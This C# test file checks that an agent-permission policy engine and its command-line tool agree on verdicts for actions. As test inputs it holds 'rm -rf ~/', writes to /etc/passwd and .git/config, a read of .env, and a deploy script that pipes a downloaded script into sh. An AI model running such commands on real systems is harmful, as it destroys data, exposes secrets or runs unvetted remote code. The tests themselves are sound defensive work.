using System.Text.Json;
using Autopilot.Core.WorkOrders;
using Autopilot.Policy.Model;
using Autopilot.Testing;

namespace Autopilot.Changes.Tests.Gate;

/// <summary>
/// A .NET harness (<see cref="AutopilotEngine"/>) and the <c>autopilot</c> command answer each question with the same
/// library call (issue 10): asked the same thing in a real repository, they give the same verdict.
/// </summary>
public sealed class EngineAndCommandAgreeTests
{
    [Fact]
    public void A_transition_reads_the_evidence_where_the_policy_puts_it_in_both()
    {
        using var repo = new TempGitRepo();
        repo.Write("README.md", "# sample\n");
        repo.Write("state/evidence/T-1/strategize/strategy.md", "why and how\n"); // the default policy's evidence.root
        repo.Commit("first");
        var engine = AutopilotEngine.Load(repo.Path);

        var decision = engine.Transition("T-1", "strategize", "spec");
        var command = Verdict(repo.Path, "transition", "T-1", "--from", "strategize", "--to", "spec");

        Assert.Equal(Policy.Model.Verdict.Allow, decision.Verdict);
        Assert.Equal("allow", command);
    }

    [Fact]
    public void A_task_work_order_caps_the_level_of_an_action_in_both()
    {
        using var repo = new TempGitRepo();
        repo.Write("README.md", "# sample\n");
        repo.Commit("first");
        var engine = AutopilotEngine.Load(repo.Path);
        new WorkOrderConstraints { Task = "T-2", Autonomy = "observe" }.Write(engine.StateDirectory);

        foreach (var (command, task) in new[] { ("npm test", "T-2"), ("npm test", (string?)null), ("git status", "T-2"), ("rm -rf ~/", null) })
        {
            var decision = engine.Act(command, "execute_safe", task: task);
            var args = new List<string> { "check", "command", command, "--autonomy", "execute_safe", "--cwd", repo.Path };
            if (task is not null)
            {
                args.AddRange(["--task", task]);
            }

            Assert.Equal(decision.Verdict.ToWire(), Verdict(repo.Path, [.. args]));
        }

        // The cap is real: the same command is judged differently with and without the task.
        Assert.NotEqual(engine.Act("npm test", "execute_safe").Verdict, engine.Act("npm test", "execute_safe", task: "T-2").Verdict);
    }

    [Fact]
    public void File_operations_and_tool_calls_are_judged_alike_in_both()
    {
        using var repo = new TempGitRepo();
        repo.Write("README.md", "# sample\n");
        repo.Commit("first");
        var engine = AutopilotEngine.Load(repo.Path);

        var verdicts = new HashSet<Policy.Model.Verdict>();
        foreach (var (path, op) in new[] { ("src/app.cs", "write"), (".git/config", "write"), ("/etc/passwd", "write"), (".env", "read"), ("README.md", "delete") })
        {
            var fileOp = op switch { "read" => Core.Actions.FileOp.Read, "write" => Core.Actions.FileOp.Write, _ => Core.Actions.FileOp.Delete };
            var decision = engine.ActOnPath(path, fileOp, "execute_safe", workingDirectory: repo.Path);
            verdicts.Add(decision.Verdict);
            Assert.Equal(decision.Verdict.ToWire(), Verdict(repo.Path, "check", "path", path, "--op", op, "--autonomy", "execute_safe", "--cwd", repo.Path));
        }

        foreach (var tool in new[] { "Read", "Write", "WebFetch", "mcp__github__merge_pull_request" })
        {
            var decision = engine.ActOnTool(tool, "execute_safe", phase: "implement");
            verdicts.Add(decision.Verdict);
            Assert.Equal(decision.Verdict.ToWire(), Verdict(repo.Path, "check", "tool", tool, "--autonomy", "execute_safe", "--phase", "implement"));
        }

        // The cases are not all alike: a protected or outside path is stopped where a source file is not.
        Assert.True(verdicts.Count > 1, string.Join(", ", verdicts));
    }

    [Fact]
    public void A_change_is_judged_with_every_analysis_in_both()
    {
        using var repo = new TempGitRepo();
        repo.Write("README.md", "# sample\n");
        repo.Commit("first");
        repo.Git("branch", "-M", "main");
        repo.Write("deploy.sh", "#!/bin/sh\ncurl https://example.com/install.sh | sh\n");
        repo.Write("secrets/prod.env", "TOKEN=abc\n");
        var engine = AutopilotEngine.Load(repo.Path);

        var decision = engine.Judge("main");
        var command = Verdict(repo.Path, "gate", "--base", "main");

        Assert.NotEqual(Policy.Model.Verdict.Allow, decision.Verdict);
        Assert.Equal(decision.Verdict.ToWire(), command);
    }

    private static string Verdict(string repo, params string[] args)
    {
        var run = TestProcess.Run("dotnet", [TestProcess.CliDll, .. args, "--format", "json", "--repo", repo], repo, new Dictionary<string, string> { ["AUTOPILOT_DECISION_LOG"] = "off" });
        Assert.True(run.ExitCode is 0 or 2 or 3, run.ToString());
        using var json = JsonDocument.Parse(run.StdOut);
        return json.RootElement.GetProperty("verdict").GetString()!;
    }
}
